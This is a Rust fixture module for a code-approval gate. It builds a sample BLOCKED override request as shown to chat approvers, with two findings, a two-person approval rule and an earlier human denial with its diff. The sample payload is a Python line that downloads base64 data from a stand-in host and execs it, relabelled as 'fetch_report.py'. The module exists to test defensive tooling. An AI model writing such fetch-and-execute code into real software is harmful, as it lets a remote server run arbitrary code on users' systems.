//! The sample BLOCKED request the examples draw (`approver_view`, `screens`): external code that
//! downloads a payload and runs it, two findings, arguments, the two-person rule, and the
//! earlier request it revises (denied by a person, with the diff).

use airlock_chat_bridge::render::{self, Message, View};
use airlock_protocol::{
    Category, CodeDigest, Confidence, Finding, Level, Origin, OverrideAsked, RequestId, TrustLevel,
};

/// When the sample was asked.
pub const ASKED_AT: i64 = 1_795_000_000_000;
/// When it is drawn: three minutes after.
pub const NOW: i64 = ASKED_AT + 3 * 60_000;

fn finding(line: u32, rule: &str, severity: Level, snippet: &str, explanation: &str) -> Finding {
    Finding {
        rule_id: rule.into(),
        category: Category::MaliciousIntent,
        severity,
        confidence: Confidence::High,
        line,
        column: 1,
        snippet: snippet.into(),
        explanation: explanation.into(),
        references: vec![],
    }
}

pub fn request_id() -> RequestId {
    RequestId::parse("mai.019a4be1-7c3e-7d12-9f40-5b2a1c9e8d77").unwrap_or_default()
}

/// The override request, with approvers in each chat system's own ids.
pub fn asked() -> OverrideAsked {
    OverrideAsked {
        level: Level::Blocked,
        // As the gate writes it: Airlock's sentence first, the requester's label after it as data.
        explanation: "External python code rated BLOCKED, 2 findings.\nWhat it does: downloads code from the network and runs it.\n- label given by the requester: \"fetch_report.py\"\n".into(),
        findings: vec![
            finding(3, "AIR-PY-EXEC-DOWNLOADED", Level::Blocked, "exec(base64.b64decode(payload))", "Data fetched from the network is executed: what runs is decided by the server at run time, not by the code that was reviewed."),
            finding(2, "AIR-PY-URLOPEN-SCHEME", Level::Low, "payload = urllib.request.urlopen('http://reports.example/p').read()", "urllib follows file:// and custom schemes as well as http(s)."),
        ],
        code_digest: CodeDigest::of(b"sample"),
        language: airlock_protocol::Language::Python,
        origin: Origin::External,
        code_preview: "import base64, urllib.request\npayload = urllib.request.urlopen('http://reports.example/p').read()\nexec(base64.b64decode(payload))\n".into(),
        code: b"import base64, urllib.request\npayload = urllib.request.urlopen('http://reports.example/p').read()\nexec(base64.b64decode(payload))\n".to_vec(),
        inputs: vec!["arguments: \"--month\" \"2026-10\"".into()],
        deadline_ms: ASKED_AT + 15 * 60_000,
        asked_at_ms: ASKED_AT,
        label: Some("fetch_report.py".into()),
        requested_quota: Some(TrustLevel::Unknown),
        approval_quota: Some(TrustLevel::Untrusted),
        policy_version: "policy-3fa2c1d09b7e".into(),
        approvers: [
            ("matrix".to_owned(), vec!["@alice:example.org".to_owned(), "@bob:example.org".to_owned()]),
            ("slack".to_owned(), vec!["U0ALICE".to_owned(), "U0BOB".to_owned()]),
            ("discord".to_owned(), vec!["80351110224678912".to_owned(), "80351110224678913".to_owned()]),
        ]
        .into(),
        grant: Some(airlock_protocol::Grant {
            quota: TrustLevel::Untrusted,
            limits: airlock_protocol::Quotas::default().untrusted,
            runtime: airlock_protocol::Runtime::Runsc,
            network: airlock_protocol::NetworkMode::None,
            read_only_hosts: vec![],
        }),
        approvals_needed: 2,
        approve_again_max_ms: 8 * 3_600_000,
        earlier: Some(Box::new(airlock_protocol::EarlierRequest {
            request_id: RequestId::parse("mai.019a4bd6-1f2a-7b3c-8d4e-5f6a7b8c9d0e").unwrap_or_default(),
            relation: airlock_protocol::EarlierRelation::Revises,
            decision: Some(airlock_protocol::EarlierDecision {
                approved: false,
                approver: airlock_protocol::Approver::Human {
                    who: "@bob:example.org".into(),
                    reason: "runs whatever that server sends".into(),
                    key: "bob".into(),
                    via: None,
                    seconded_by: vec![],
                },
                at_ms: ASKED_AT - 13 * 60_000,
                reason: String::new(),
            }),
            diff: Some(
                "--- mai.019a4bd6-1f2a-7b3c-8d4e-5f6a7b8c9d0e\n+++ mai.019a4be1-7c3e-7d12-9f40-5b2a1c9e8d77\n@@ -1,3 +1,3 @@\n import base64, urllib.request\n-payload = urllib.request.urlopen('http://203.0.113.9/p').read()\n+payload = urllib.request.urlopen('http://reports.example/p').read()\n exec(base64.b64decode(payload))\n"
                    .into(),
            ),
            missing: None,
        })),
        ..OverrideAsked::display_only()
    }
}

/// The request as the bridge composes it for `system`, mentioning that system's approvers.
pub fn message(system: &str) -> Message {
    let rid = request_id();
    let asked = asked();
    let view = View {
        request_id: &rid,
        asked: &asked,
        ended: None,
        approved_by: &[],
        system,
        escalated: false,
        code_page: Some(format!(
            "https://airlock.example.org/code/{rid}/7f3a9c2e51d84b6f0a1e2d3c4b5a6978"
        )),
    };
    let mut message = render::request_message(&view);
    message.mentions = view.approvers().to_vec();
    message
}
